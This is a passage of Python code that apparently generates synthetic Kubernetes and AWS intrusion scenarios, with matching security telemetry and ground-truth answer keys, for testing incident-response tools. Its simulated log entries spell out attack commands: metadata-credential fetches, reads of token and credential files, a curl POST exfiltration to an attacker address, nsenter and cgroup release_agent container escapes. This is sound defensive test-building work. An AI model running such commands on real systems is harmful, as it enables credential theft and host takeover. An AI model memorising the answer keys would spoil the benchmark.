        """Identities an SA reaches through RBAC (secrets it may read that hold
        keys, service accounts of pods it may create): 'may' reach."""
        out = set()
        for d in self.deps:
            if "system:serviceaccount:%s:%s" % (d["ns"], d["sa"]) != sa_ident:
                continue
            names = []
            if d.get("rbac_secrets") == "all" or d.get("rbac_pods"):
                names = [s for s in self.secrets.values() if s["ns"] == d["ns"]]
            elif d.get("rbac_secrets") == "own":
                names = d["secrets"]
            for s in names:
                if s["holds"]:
                    for u in self.users.values():
                        if u["arn"] == s["holds"][2]:
                            out |= self.reach_of(("user", u["name"]))
            if d.get("rbac_pods"):
                for (ns, sa) in self.sas:
                    if ns == d["ns"]:
                        out.add(("k8s", "system:serviceaccount:%s:%s" % (ns, sa)))
        return out

    def later_may(self):
        """While the attacker still holds the workload (or the host), every
        credential delivered to it later in the window is exposed too: the
        root pod's later tokens and Vault logins, an escaped node's later
        role sessions and its pods' later tokens.  Reporting them is not an
        error, so they are 'may'."""
        for e in self.truth["escaped"]:
            pods = [p for p in self.pods if "%s/%s" % (p["ns"], p["name"]) == e["pod"]]
            for p in pods:
                for (ti, j) in p["tokens"]:
                    if self.T0 <= ti < self.END:
                        self.jti_cred(p, j, must=False)
                for (ti, a) in p["vlogins"]:
                    if self.T0 <= ti < self.END:
                        self.vault_cred(p, a, must=False)
                if self.truth["family"] in ("S1", "S9"):
                    n = p["node"]
                    for (ti, k) in n["sessions"]:
                        if self.T0 <= ti < self.END:
                            self.cred("aws", k, n["session_arn"], False, ("session", self.node_role, n["inst"]))
        for n in self.nodes:
            if n["name"] not in self.escaped_nodes:
                continue
            for (ti, k) in n["sessions"]:
                if self.T0 <= ti < self.END:
                    self.cred("aws", k, n["session_arn"], False, ("session", self.node_role, n["inst"]))
            for p in n["pods"]:
                for (ti, j) in p["tokens"]:
                    if self.T0 <= ti < self.END:
                        self.jti_cred(p, j, must=False)
                for (ti, a) in p["vlogins"]:
                    if self.T0 <= ti < self.END:
                        self.vault_cred(p, a, must=False)

    def user_of_arn(self, arn):
        return [u for u in self.users.values() if u["arn"] == arn][0]

    def vault_reach(self, ident):
        """An SA's token logs in to Vault's kubernetes auth as the SA's role."""
        out = set()
        for p in self.pods:
            if p["vault"] and "system:serviceaccount:%s:%s" % (p["ns"], p["sa"]) == ident:
                out.add(("vault", self.vault_ident(p)["display"]))
        return out

    def finish_truth(self):
        tr = self.truth
        reach_must, reach_may = set(self.reach_extra), set()
        for (prov, cid), (ident, pr) in self.must.items():
            tr["credentials"].append({"provider": prov, "id": cid, "identity": ident})
            reach_must |= self.reach_of(pr)
        for (prov, cid), (ident, pr) in self.may.items():
            tr["credentials_may"].append({"provider": prov, "id": cid, "identity": ident})
            reach_may |= self.reach_of(pr)
        for (prov, cid), (ident, pr) in list(self.must.items()) + list(self.may.items()):
            if pr and pr[0] == "session" and pr[1] == self.node_role:
                # EKS maps the node role's session to the node's Kubernetes identity
                reach_may |= {("k8s", "system:node:" + n["name"]) for n in self.nodes if n["inst"] == pr[2]}
        done = set()
        while True:
            todo = [x for x in (reach_must | reach_may) if x[0] == "k8s" and x not in done]
            if not todo:
                break
            for prov, ident in todo:
                done.add((prov, ident))
                reach_may |= self.rbac_reach(ident)
                reach_may |= self.vault_reach(ident)
                if ident.startswith("system:node:"):
                    n = [x for x in self.nodes if x["name"] == ident[len("system:node:"):]][0]
                    for p in n["pods"]:
                        reach_may.add(("k8s", "system:serviceaccount:%s:%s" % (p["ns"], p["sa"])))
                        for sc in (p.get("dep") or {}).get("secrets", []):
                            if sc["holds"]:
                                reach_may |= self.reach_of(("user", self.user_of_arn(sc["holds"][2])["name"]))
        reach_may -= reach_must
        tr["reachable"] = [{"provider": a, "identity": b} for a, b in sorted(reach_must)]
        tr["reachable_may"] = [{"provider": a, "identity": b} for a, b in sorted(reach_may)]
        for k in ("credentials", "credentials_may"):
            tr[k].sort(key=lambda c: (c["provider"], c["id"]))

    def root(self, p, host=None):
        self.truth["escaped"].append({"pod": "%s/%s" % (p["ns"], p["name"]), "container_id": p["cid"],
                                      "host": host or p["node"]["name"]})

    def attacker_src(self, p, t):
        """Where the attacker uses credentials from: the attacker's address, or
        (network join) an address the compromised workload connected to."""
        if self.r.random() < 0.35:
            ip = self.r.public_ip([self.r.choice(ATTACKER_NETS)])
            self.variant.setdefault("egress_join", []).append(ip)
            c = self.run(p, "/usr/bin/curl", "-s -X POST --data-binary @/tmp/.c https://%s/u" % ip, t)
            self.connect(c, t, p.pod["ip"] if p.pod and not p.pod["host_network"] else self.node_of(p)["ip"], ip, 443)
            return ip
        return self.att_ip

    def node_of(self, proc):
        return [n for n in self.nodes if n["name"] == proc.node][0]

    def aws_recon(self, t, ident, src, ua, extra=()):
        seq = [(0, "sts", "GetCallerIdentity", None), (self.r.uniform(5, 30), "ec2", "DescribeInstances", None),
               (self.r.uniform(30, 50), "s3", "ListBuckets", "AccessDenied"),
               (self.r.uniform(50, 70), "iam", "ListRoles", "AccessDenied"),
               (self.r.uniform(70, 90), "secretsmanager", "ListSecrets", "AccessDeniedException"),
               (self.r.uniform(90, 110), "iam", "ListUsers", "AccessDenied"),
               (self.r.uniform(110, 130), "lambda", "ListFunctions20150331", "AccessDeniedException"),
               (self.r.uniform(130, 150), "ecr", "GetAuthorizationToken", None)]
        for dt, srcn, name, err in seq[:self.r.randint(4, len(seq))]:
            self.ctx(t + dt, ident, srcn, name, src, ua, err=err)
        return t + 150

    # ---- attack families (scenarios.md §2) ------------------------------------------
    def victim(self, need_vault=False):
        cands = [p for p in self.pods if p.get("dep") and p["started"] < self.T0 - 60 and (p["vault"] or not need_vault)]
        return self.r.choice(cands)

    def need(self, *alternatives):
        """Make sure the case has a runtime source that sees the step (one of
        alternatives); if none is present add the first.  Documented: a step
        no source can see would make the truth unreachable by any tool."""
        if not any(a in self.sources for a in alternatives):
            self.sources.add(alternatives[0])

    def fam_s1(self):
        """S1: pod RCE -> IMDS role credentials -> off-host use."""
        self.need("tetragon", "falco", "tracee")
        p = self.victim()
        self.root(p)
        t = self.T0
        sh = self.shell_rce(p["app"], t, "-c 'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/'")
        self.imds_fetch(sh, t + self.r.uniform(0.5, 3), p["ip"])
        n = p["node"]
        tu = t + self.r.uniform(30, 600)
        src = self.attacker_src(sh, t + self.r.uniform(4, 20))
        key = self.node_cred(n, t)
        tn = self.aws_recon(tu, self.node_ident(n, t), src, self.att_ua)
        self.maybe_pivot_role(n, t, tn, src)

    def maybe_pivot_role(self, n, t_exp, t, src):
        """The attacker assumes a role the node session may assume, then uses it."""
        nr = self.roles[self.node_role]
        targets = [x for x in nr["assume"] if self.trust_allows(x, ("session", self.node_role, n["inst"]))]
        if not targets or self.r.random() < 0.4:
            return
        ro = self.roles[targets[0]]
        ak = "ASIA" + self.r.b32(16)
        sname = "s" + self.r.hexs(6)
        sarn = "arn:aws:sts::%s:assumed-role/%s/%s" % (self.acct, ro["name"], sname)
        self.ctx(t, self.node_ident(n, t_exp), "sts", "AssumeRole", src, self.att_ua,
                 req={"roleArn": ro["arn"], "roleSessionName": sname},
                 resp={"credentials": {"accessKeyId": ak, "expiration": ct_date(t + 3600)},
                       "assumedRoleUser": {"assumedRoleId": "%s:%s" % (ro["id"], sname), "arn": sarn}})
        ident = {"type": "AssumedRole", "principalId": "%s:%s" % (ro["id"], sname), "arn": sarn, "accountId": self.acct,
                 "accessKeyId": ak, "sessionContext": {"sessionIssuer": {"type": "Role", "principalId": ro["id"],
                                                                         "arn": ro["arn"], "accountId": self.acct,
                                                                         "userName": ro["name"]},
                                                       "attributes": {"creationDate": iso(t, 0)}}}
        self.ctx(t + 5, ident, "sts", "GetCallerIdentity", src, self.att_ua)
        self.ctx(t + 12, ident, "ssm", "DescribeInstanceInformation", src, self.att_ua, err="AccessDeniedException")
        self.cred("aws", ak, sarn, True, ("session", ro["name"], sname))
        self.variant["pivot_role"] = ro["name"]

    def token_theft(self, p, t):
        """Read the pod's SA token inside the container (S2 step 1)."""
        self.need("tetragon", "tracee")
        sh = self.shell_rce(p["app"], t, "-c 'cat /var/run/secrets/kubernetes.io/serviceaccount/token'")
        c = self.run(sh, "/bin/cat", "/var/run/secrets/kubernetes.io/serviceaccount/token", t + 0.01)
        tdir = "..%s.%d" % (iso(self.jti_issued(p, t), 0)[:19].replace("-", "_").replace(":", "_").replace("T", "_"),
                            self.r.randint(10 ** 9, 2 * 10 ** 9))
        self.file_read(c, t + 0.02, "/var/run/secrets/kubernetes.io/serviceaccount/token",
                       real_path="/run/secrets/kubernetes.io/serviceaccount/%s/token" % tdir,
                       tracee_sig=("k8s_service_account_token",
                                   trc("TRC-108", "K8s service account token file read",
                                       "The Kubernetes service account token file was read on your container.", 0,
                                       "T1528", "Steal Application Access Token", "Credential Access")))
        jti = self.jti_at(p, t)
        return sh, jti

    def jti_issued(self, p, t):
        return [ti for (ti, j) in p["tokens"] if ti <= t][-1]

    def stolen_call(self, p, jti_t, t, verb, uri, objref, src, code=200, reqobj=None, respobj=None):
        user, ex, groups, suid = self.sa_user(p, jti_t)
        k8s(self.o, t, self.eid(), user, verb, uri, objref, src, self.att_kubectl, code, extra=ex, groups=groups,
            uid_=suid, reqobj=reqobj, respobj=respobj, reason="RBAC: allowed" if code < 400 else "")

    def fam_s2(self, p=None, t=None):
        """S2: SA token theft -> API server from outside; secrets returned 200."""
        p = p or self.victim()
        d = p["dep"]
        d["rbac_secrets"] = self.r.choice(["all", "own", "all"])
        # the attacker wants the namespace's AWS key: make sure one is in reach
        if not any(s["holds"] for s in d["secrets"]):
            d2 = [x for x in self.deps if any(s["holds"] for s in x["secrets"])][0]
            s = [s for s in d2["secrets"] if s["holds"]][0]
            s2 = self.add_secret(d["ns"], s["name"] if (d["ns"], s["name"]) not in self.secrets else "aws-" + self.r.k8s(4),
                                 s["keys"], "aws", s["holds"])
            s2["volume"] = True
            d["secrets"].append(s2)
        if self.truth["escaped"] == []:
            self.root(p)
        t = t or self.T0
        sh, jti = self.token_theft(p, t)
        self.jti_cred(p, jti, True)
        src = self.attacker_src(sh, t + self.r.uniform(2, 30))
        ta = t + self.r.uniform(60, 600)
        ns = p["ns"]
        self.stolen_call(p, t, ta, "create", "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews",
                         {"resource": "selfsubjectrulesreviews", "apiGroup": "authorization.k8s.io", "apiVersion": "v1"},
                         src, 201)
        returned = []
        if d["rbac_secrets"] == "all":
            self.stolen_call(p, t, ta + 5, "list", "/api/v1/namespaces/%s/secrets?limit=500" % ns,
                             {"resource": "secrets", "namespace": ns, "apiVersion": "v1"}, src, 200)
            returned = [s for s in self.secrets.values() if s["ns"] == ns]
        else:
            for s in d["secrets"]:
                self.stolen_call(p, t, ta + self.r.uniform(5, 30), "get", "/api/v1/namespaces/%s/secrets/%s" % (ns, s["name"]),
                                 {"resource": "secrets", "namespace": ns, "name": s["name"], "apiVersion": "v1"}, src, 200)
                returned.append(s)
            self.stolen_call(p, t, ta + 31, "list", "/api/v1/namespaces/%s/secrets?limit=500" % ns,
                             {"resource": "secrets", "namespace": ns, "apiVersion": "v1"}, src, 403)
        for i in range(self.r.randint(2, 6)):
            self.stolen_call(p, t, ta + 40 + i * self.r.uniform(1, 5), self.r.choice(["list", "get", "create"]),
                             self.r.choice(["/api/v1/secrets?limit=500", "/api/v1/namespaces/kube-system/secrets",
                                            "/api/v1/namespaces/kube-system/serviceaccounts/default/token",
                                            "/apis/rbac.authorization.k8s.io/v1/clusterroles"]),
                             {"resource": "secrets", "namespace": "kube-system", "apiVersion": "v1"}, src, 403)
        # secrets returned 200: their credentials are exposed; a key nothing maps
        # is learned from its first use from the incident's address
        tu = ta + self.r.uniform(120, 900)
        for s in returned:
            if not s["holds"]:
                continue
            mapped = self.credmap is not None and (s["ns"], s["name"]) in self.mapped_secrets
            use = (not mapped) or self.r.random() < 0.5
            if use:
                u = [u for u in self.users.values() if u["arn"] == s["holds"][2]][0]
                self.aws_recon(tu, self.user_ident(u, s["holds"][1]), src, self.att_ua)
                tu += 200
            self.secret_exposed(s, used=use)
        return sh, jti, src, ta

    def fam_s3(self):
        """S3: stolen SA creates a privileged hostPID pod -> nsenter -> node harvest."""
        p = self.victim()
        p["dep"]["rbac_pods"] = True
        sh, jti, src, ta = self.fam_s2(p)
        self.need("tetragon", "falco", "auditd")
        self.priv_pod_escape(p, ta + self.r.uniform(60, 300), src)

    def priv_pod_escape(self, p, t, src):
        r = self.r
        n = r.choice(self.nodes) if r.random() < 0.5 else p["node"]
        name = r.choice(["debug-tools", "ubuntu", "node-shell-" + r.k8s(5), "busybox-" + r.k8s(4)])
        ap = self.new_pod(n, p["ns"], name, p["sa"], "ubuntu:24.04", "debug", {"run": name}, name, "Pod",
                          t + 6, "/usr/bin/sleep", "infinity", host_network=True, privileged=True, host_pid=True,
                          hostpaths=["/"])
        ap["tokens"] = []  # automountServiceAccountToken: false
        ap["spec_extra"] = {"automountServiceAccountToken": False}
        self.stolen_call(p, self.T0, t, "create", "/api/v1/namespaces/%s/pods?fieldManager=kubectl-run" % p["ns"],
                         {"resource": "pods", "namespace": p["ns"], "name": name, "apiVersion": "v1"}, src, 201,
                         reqobj=self.pod_obj(ap, with_status=False),
                         respobj={"kind": "Pod", "metadata": {"name": name, "namespace": p["ns"], "uid": ap["uid"]}})
        sl = self.exec_(ap["app"])
        if self.has("falco"):
            falco(self.o, t + 6.2, "Launch Privileged Container", "Informational",
                  ["T1610", "container", "cis", "maturity_incubating", "mitre_execution"], sl,
                  "Privileged container started", {"evt.type": "container", "container.privileged": True,
                                                   "container.mounts": "/:/host::true:rprivate"})
        te = t + r.uniform(15, 60)
        self.stolen_call(p, self.T0, te, "create",
                         "/api/v1/namespaces/%s/pods/%s/exec?command=bash&container=debug&stdin=true&stdout=true&tty=true" % (p["ns"], name),
                         {"resource": "pods", "namespace": p["ns"], "name": name, "apiVersion": "v1", "subresource": "exec"},
                         src, 101)
        runc = Proc(n["name"], self.pid(n["name"]), "/usr/bin/runc", "--root /run/containerd/runc/k8s.io exec", te + 0.2)
        bash = self.exec_(Proc(n["name"], self.pid(n["name"]), "/usr/bin/bash", "", te + 0.4, pod=ap, parent=runc,
                               ns_pid=r.randint(20, 90)), tty=True)
        hsh = self.nsenter(bash, te + r.uniform(3, 20))
        self.host_harvest(hsh, n, hsh.start + r.uniform(5, 40), p)
        return ap

    def nsenter(self, bash, t):
        ns = self.run(bash, "/usr/bin/nsenter", "-t 1 -m -u -n -i -p sh", t)
        flags = (131072, 67108864, 134217728, 1073741824, 536870912)
        if self.has("tetragon"):
            for j, fl in enumerate(flags):
                tg_kprobe(self.o, t + 0.001 + j * 0.0002, ns, "__x64_sys_setns", [{"int_arg": 3 + j}, {"int_arg": fl}],
                          policy="namespace-access")
        if self.has("falco"):
            falco(self.o, t + 0.0011, "Change thread namespace", "Notice",
                  ["T1611", "container", "maturity_incubating", "mitre_privilege_escalation", "process"], ns,
                  "Namespace change (setns) by unexpected program", {"evt.type": "setns", "evt.res": "SUCCESS"})
        if self.has("auditd"):
            for j in range(2):
                audit(self.o, t + 0.0012 + j * 0.0003, ns.node, "setns", ns, "setns")
        if self.has("tracee"):
            self.tracee( t + 0.0013, ns, "setns", [{"name": "fd", "int32": 3}, {"name": "nstype", "int32": 131072}],
                   syscall="setns")
        return self.run(ns, "/usr/bin/sh", "", t + 0.01, cwd="/root")

    def host_harvest(self, hsh, n, t, root_pod):
        """Host credential harvest after an escape (S3 step 4), then use."""
        r = self.r
        pods = [p for p in n["pods"] if p["tokens"] and p["started"] < t]
        tokpaths = ["/var/lib/kubelet/pods/%s/volumes/kubernetes.io~projected/kube-api-access-%s/token" % (p["uid"], p["uid"][:5])
                    for p in pods]
        c = self.run(hsh, "/usr/bin/cat", " ".join(tokpaths[:6]), t)
        for path in tokpaths:
            self.file_read(c, t + 0.001, path)
        c2 = self.run(hsh, "/usr/bin/cat", "/etc/kubernetes/kubelet.conf /var/lib/kubelet/pki/kubelet-client-current.pem "
                      "/root/.aws/credentials", t + r.uniform(2, 10))
        k1 = ("TRC-1018", "K8s cert theft attempt detected")
        for path, key in (("/etc/kubernetes/kubelet.conf", "kubelet_cfg"),
                          ("/var/lib/kubelet/pki/kubelet-client-current.pem", "kubelet_pki"),
                          ("/root/.aws/credentials", "aws_creds")):
            self.file_read(c2, c2.start + 0.001, path, watch_key=key,
                           tracee_sig=("kubernetes_certificate_theft_attempt",
                                       trc(k1[0], k1[1], "An attempt to steal Kubernetes certificates was detected.", 3,
                                           "T1552.004", "Private Keys", "Credential Access")) if "pki" in path else None)
        self.escape_node(n, t, root_pod)
        # IMDS from the host network namespace
        self.imds_fetch(hsh, t + r.uniform(10, 30), n["ip"], from_host=True)
        tu = t + r.uniform(60, 400)
        src = self.attacker_src(hsh, t + r.uniform(30, 50))
        self.aws_recon(tu, self.node_ident(n, t), src, self.att_ua)
        self.node_cred(n, t, True)
        # another pod's token, used from the node's address
        others = [p for p in pods if p.get("dep") and p is not root_pod]
        if others:
            o = r.choice(others)
            jt = self.jti_at(o, t)
            if jt == self.jti_at(o, tu + 100):
                self.stolen_call(o, t, tu + 100, "get", "/api/v1/namespaces/%s/secrets" % o["ns"],
                                 {"resource": "secrets", "namespace": o["ns"], "apiVersion": "v1"}, n["ip"], 403)
                self.jti_cred(o, jt, True)
        # the host file's key from outside (1 in 2; always when nothing maps it)
        if self.credmap is None or r.random() < 0.5:
            self.aws_recon(tu + 300, self.user_ident(self.host_user, self.host_file_key), src, self.att_ua)
            self.aws_key_cred(self.host_file_key, True)

    def fam_s7(self):
        """S7: Vault token theft (agent sink or /proc/PID/environ) -> replay."""
        p = self.victim(need_vault=True)
        self.root(p)
        t = self.T0
        how = self.r.choice(["sink", "environ"])
        self.variant["vault_read"] = how
        sh = self.shell_rce(p["app"], t, "-c id")
        if how == "sink":
            self.need("tetragon", "tracee")
            c = self.run(sh, "/bin/cat", "/home/vault/.vault-token", t + 0.5)
            self.file_read(c, t + 0.51, "/home/vault/.vault-token")
        else:
            self.need("falco", "tetragon", "tracee")
            c = self.run(sh, "/bin/cat", "/proc/1/environ", t + 0.5)
            self.file_read(c, t + 0.51, "/proc/1/environ",
                           falco_rule=("Read environment variable from /proc files", "Warning",
                                       ["T1083", "container", "filesystem", "maturity_incubating", "mitre_discovery", "process"],
                                       "Environment variables were retrieved from /proc files"))
            self.env_exposed = self.pod_env_secrets(p)
        acc = self.vault_acc_at(p, t)
        self.vault_cred(p, acc, True)
        src = self.attacker_src(sh, t + self.r.uniform(2, 20))
        tv = t + self.r.uniform(120, 900)
        self.vault(p, tv, "auth/token/lookup-self", "read", src, acc, mount_type="token")
        for i, path in enumerate(["sys/mounts", "secret/metadata/", "secret/data/%s/admin" % p["ns"], "sys/auth"]):
            self.vault(p, tv + 3 + i * 2, path, "read" if "metadata" not in path else "list", src, acc,
                       err=PERM_DENIED, mount_type="system" if path.startswith("sys") else "kv")
        self.vault(p, tv + 15, p["vault"]["kv"] + "/config", "read", src, acc, data_keys=["password"])
        self.use_exposed_secrets(getattr(self, "env_exposed", []), tv + self.r.uniform(60, 600), src)
        if self.r.random() < 0.7:
            child = self.r.b62(24)
            self.vault(p, tv + 20, "auth/token/create", "update", src, acc, mount_type="token", new_acc=child)
            self.vault(p, tv + 25, "auth/token/lookup-self", "read", src, child, mount_type="token")
            self.vault_cred(p, child, True)

    def fam_s4(self):
        """S4: CI job with the node's docker.sock -> privileged sibling with / -> host files."""
        self.need("tetragon", "falco", "tracee")
        self.need("auditd", "tracee")  # the socket connect (scenarios.md S4 step 2: TR, AU)
        r = self.r
        t = self.T0
        p, job = self.ci_job(t - r.uniform(600, 3600), build=False)
        self.root(p)
        n = p["node"]
        body = '{"Image":"alpine","HostConfig":{"Privileged":true,"Binds":["/:/host"]}}'
        sib = r.hexs(64)
        for i, url in enumerate(("http://localhost/v1.43/containers/create", "http://localhost/v1.43/containers/%s/start" % sib[:12])):
            c = self.run(job, "/usr/bin/curl", "--unix-socket /var/run/docker.sock -XPOST %s%s" % (
                url, " -H 'Content-Type: application/json' -d '%s'" % body if i == 0 else ""), t + i * 1.2)
            self.unix_connect(c, c.start + 0.02, "/var/run/docker.sock")
        shim = Proc(n["name"], self.pid(n["name"]), "/usr/bin/containerd-shim-runc-v2",
                    "-namespace moby -id %s -address /run/containerd/containerd.sock" % sib, t + 2.6)
        bsh = self.exec_(Proc(n["name"], self.pid(n["name"]), "/bin/sh", "", t + 3.0, docker=sib, parent=shim, ns_pid=1))
        if self.has("falco"):
            falco(self.o, t + 3.01, "Launch Privileged Container", "Informational",
                  ["T1610", "container", "cis", "maturity_incubating", "mitre_execution"], bsh,
                  "Privileged container started", {"evt.type": "container", "container.privileged": True,
                                                   "container.mounts": "/:/host::true:rprivate"})
        th = t + r.uniform(10, 60)
        c1 = self.run(bsh, "/bin/cat", "/host/root/.aws/credentials", th)
        self.file_read(c1, th, "/host/root/.aws/credentials", watch_key="aws_creds",
                       falco_rule=("Container Access to Host Sensitive Paths", "Warning",
                                   ["T1552.001", "container", "filesystem", "maturity_sandbox", "mitre_credential_access"],
                                   "Sensitive host file opened for reading by container process"))
        ch = self.run(bsh, "/usr/sbin/chroot", "/host sh -c 'cat /root/.docker/config.json /var/lib/kubelet/config.json'", th + 2)
        c2 = self.run(ch, "/usr/bin/cat", "/root/.docker/config.json /var/lib/kubelet/config.json", th + 2.05)
        for path, key in (("/root/.docker/config.json", "docker_creds"), ("/var/lib/kubelet/config.json", "kubelet_cfg")):
            self.file_read(c2, th + 2.06, path, watch_key=key)
        self.escape_node(n, th, p)
        src = self.attacker_src(bsh, th + r.uniform(3, 20))
        tu = th + r.uniform(300, 900)
        if self.credmap is None or r.random() < 0.8:
            hu = self.host_user
            ident = self.user_ident(hu, self.host_file_key)
            self.aws_recon(tu, ident, src, self.att_ua)
            self.aws_key_cred(self.host_file_key, True)
            if self.backdoor_user:
                nk = "AKIA" + r.b32(16)
                bu = self.users[self.backdoor_user]
                self.ctx(tu + 160, ident, "iam", "CreateAccessKey", src, self.att_ua, req={"userName": bu["name"]},
                         resp={"accessKey": {"userName": bu["name"], "accessKeyId": nk, "status": "Active",
                                             "createDate": ct_date(tu + 160)}}, readonly=False)
                self.ctx(tu + 200, self.user_ident(bu, nk), "sts", "GetCallerIdentity", src, self.att_ua)
                self.ctx(tu + 210, self.user_ident(bu, nk), "iam", "ListRoles", src, self.att_ua)
                self.cred("aws", nk, bu["arn"], True, ("user", bu["name"]))

    def fam_s5(self):
        """S5: release_agent (CVE-2022-0492): kernel runs the payload on the host."""
        self.need("tetragon", "falco", "tracee")
        r = self.r
        p = self.victim()
        self.root(p)
        n = p["node"]
        t = self.T0
        snap = r.randint(100, 9999)
        upper = "/var/lib/containerd/io.containerd.snapshotter.v1.overlayfs/snapshots/%d/fs" % snap
        sh = self.shell_rce(p["app"], t, "-c 'unshare -UrmC bash'")
        un = self.run(sh, "/usr/bin/unshare", "-UrmC bash", t + 0.3)
        if self.has("tetragon"):
            tg_kprobe(self.o, t + 0.31, un, "__x64_sys_unshare", [{"int_arg": 0x12020000}], policy="namespace-access")
        if self.has("falco"):
            falco(self.o, t + 0.311, "Change namespace privileges via unshare", "Notice",
                  ["T1611", "container", "maturity_incubating", "mitre_privilege_escalation"], un,
                  "Change namespace privileges via unshare", {"evt.type": "unshare", "evt.res": "SUCCESS"})
        if self.has("auditd"):
            audit(self.o, t + 0.312, n["name"], "unshare", un, "unshare")
        b = self.run(un, "/usr/bin/bash", "", t + 0.35)
        m = self.run(b, "/usr/bin/mount", "-t cgroup -o rdma cgroup /tmp/cgrp", t + 2)
        if self.has("auditd"):
            audit(self.o, t + 2.01, n["name"], "mount", m, "mount", paths=[("/tmp/cgrp", 81234, "040755")])
        w = self.run(b, "/bin/sh", "-c 'echo %s/cmd > /tmp/cgrp/release_agent'" % upper, t + 4)
        self.file_read(w, t + 4.01, "/tmp/cgrp/release_agent", write=True,
                       tracee_sig=("cgroup_release_agent",
                                   trc("TRC-1010", "Cgroups release agent file modification",
                                       "An attempt to modify Cgroup release agent file was detected.", 3,
                                       "T1611", "Escape to Host", "Privilege Escalation")),
                       falco_rule=("Detect release_agent File Container Escapes", "Critical",
                                   ["T1611", "container", "maturity_stable", "mitre_privilege_escalation"],
                                   "Detect an attempt to exploit a container escape using release_agent file"))
        # the kernel runs the payload on the host (parent kthreadd, pid 2)
        kthreadd = Proc(n["name"], 2, "[kthreadd]", "", n["created"])
        th = t + 6
        pay = Proc(n["name"], self.pid(n["name"]), upper + "/cmd", "", th, parent=kthreadd)
        if self.has("tetragon"):
            tg_exec(self.o, pay)
        if self.has("auditd"):
            audit(self.o, th + 0.001, n["name"], "execve", pay, "umh_exec",
                  paths=[(upper + "/cmd", 991234, "0100755")])
        if self.has("tracee"):
            self.tracee( th + 0.002, pay, "sched_process_exec", [{"name": "pathname", "str": pay.binary}], syscall="execve")
        hsh = self.run(pay, "/bin/sh", "%s/cmd" % upper, th + 0.01, cwd="/")
        self.host_harvest(hsh, n, th + r.uniform(1, 5), p)

    def fam_s6(self):
        """S6: runc CVE-2024-21626: a pod with workingDir /proc/self/fd/N reads host files."""
        self.need("tetragon", "auditd")
        r = self.r
        p = self.victim()
        p["dep"]["rbac_pods"] = True
        sh, jti, src, ta = self.fam_s2(p)
        n = r.choice(self.nodes)
        t = ta + r.uniform(60, 300)
        name = "%s-migrate-%s" % (p["dep"]["name"], r.k8s(5))
        wd = "/proc/self/fd/%d" % r.randint(7, 9)
        ap = self.new_pod(n, p["ns"], name, p["sa"], p["image"], "migrate", {"job-name": name}, name, "Pod",
                          t + 5, "/bin/sh", "-c 'cat ../../../../root/.aws/credentials'")
        ap["cextra"] = {"workingDir": wd}
        self.stolen_call(p, self.T0, t, "create", "/api/v1/namespaces/%s/pods" % p["ns"],
                         {"resource": "pods", "namespace": p["ns"], "name": name, "apiVersion": "v1"}, src, 201,
                         reqobj=self.pod_obj(ap, with_status=False),
                         respobj={"kind": "Pod", "metadata": {"name": name, "namespace": p["ns"], "uid": ap["uid"]}})
        runc = Proc(n["name"], self.pid(n["name"]), "/usr/bin/runc", "--root /run/containerd/runc/k8s.io create", t + 4.8)
        if self.has("tetragon"):
            tg_kprobe(self.o, t + 4.85, runc, "sys_chdir", [{"string_arg": wd}], policy="cve-2024-21626-runc",
                      extra={"message": "Possible exploit of runc cve-2024-21626 vulnerability"})
        c = ap["app"]
        c.cwd = "/sys/fs/cgroup"
        self.exec_(c)
        cat = self.run(c, "/bin/cat", "../../../../root/.aws/credentials ../../../../var/lib/kubelet/pki/kubelet-client-current.pem", t + 5.2)
        for path, key in (("../../../../root/.aws/credentials", "aws_creds"),
                          ("../../../../var/lib/kubelet/pki/kubelet-client-current.pem", "kubelet_pki")):
            self.file_read(cat, t + 5.21, path, real_path="/" + path.replace("../", ""), watch_key=key)
        self.escape_node(n, t + 5, p)
        tu = t + r.uniform(300, 900)
        self.aws_recon(tu, self.user_ident(self.host_user, self.host_file_key), src, self.att_ua)
        for i in range(3):
            self.ctx(tu + 160 + i * 7, self.user_ident(self.host_user, self.host_file_key), "secretsmanager",
                     "GetSecretValue", src, self.att_ua, req={"secretId": "prod/%s" % r.choice(["db", "api", "stripe", "ci"])})
        self.aws_key_cred(self.host_file_key, True)

    def fam_s8(self):
        """S8: AI coding-agent sandbox: env and file credential harvest, exfil, use."""
        self.need("tetragon", "falco")
        r = self.r
        n = r.choice(self.nodes)
        dev = self.users.setdefault("dev-sandbox", {"name": "dev-sandbox", "arn": "arn:aws:iam::%s:user/sandbox/dev-sandbox" % self.acct,
                                                    "id": "AIDA" + r.b32(17), "path": "/sandbox/", "keys": [("AKIA" + r.b32(16), self.S - 30 * DAY)],
                                                    "assume": [], "policies": []})
        s_aws = self.add_secret("agents", "agent-aws", ["access-key-id", "secret-access-key"], "aws",
                                ("aws", dev["keys"][0][0], dev["arn"]))
        s_gh = self.add_secret("agents", "agent-github", ["token"], "github", None)
        s_llm = self.add_secret("agents", "agent-llm", ["key"], "anthropic", None)
        d = {"ns": "agents", "name": "agent-runner", "sa": "agent-runner", "image": "ghcr.io/acme/agent-runner:0.9.4",
             "rs": r.k8s(10), "replicas": 1, "pods": [], "secrets": [s_aws, s_gh, s_llm],
             "env_secrets": [("AWS_ACCESS_KEY_ID", s_aws, "access-key-id"), ("AWS_SECRET_ACCESS_KEY", s_aws, "secret-access-key"),
                             ("GITHUB_TOKEN", s_gh, "token"), ("ANTHROPIC_API_KEY", s_llm, "key")],
             "envfrom": [], "vault": None, "ua": None}
        self.sas[("agents", "agent-runner")] = {"uid": r.uuid()}
        self.deps.append(d)
        name = "agent-runner-%s-%s" % (d["rs"], r.k8s(5))
        p = self.new_pod(n, "agents", name, "agent-runner", d["image"], "agent", {"app": "agent-runner", "pod-template-hash": d["rs"]},
                         "agent-runner", "Deployment", self.S - r.uniform(HOUR, 5 * DAY), "/usr/bin/node", "/opt/agent/runner.js",
                         hostpaths=["/srv/agents/.aws"])
        p["dep"] = d
        d["pods"].append(p)
        self.root(p)
        gh_id, llm_id = "pat-%d" % r.randint(10000, 99999), "apikey-" + r.b32(10)
        if self.credmap is not None:
            self.credmap.append(("env:agents/%s:GITHUB_TOKEN" % name, "github", gh_id, "acme-agent-bot"))
            self.credmap.append(("env:agents/%s:ANTHROPIC_API_KEY" % name, "anthropic", llm_id, "acme-agents"))
            self.credmap.append(("file:*:/srv/agents/.aws/credentials", "aws", dev["keys"][0][0], dev["arn"]))
        # its normal life: the sandbox's key used daily from the NAT address
        for tb in self.series(max(self.S, p["started"]), self.T0 - 600, 8 * HOUR, sparse=3):
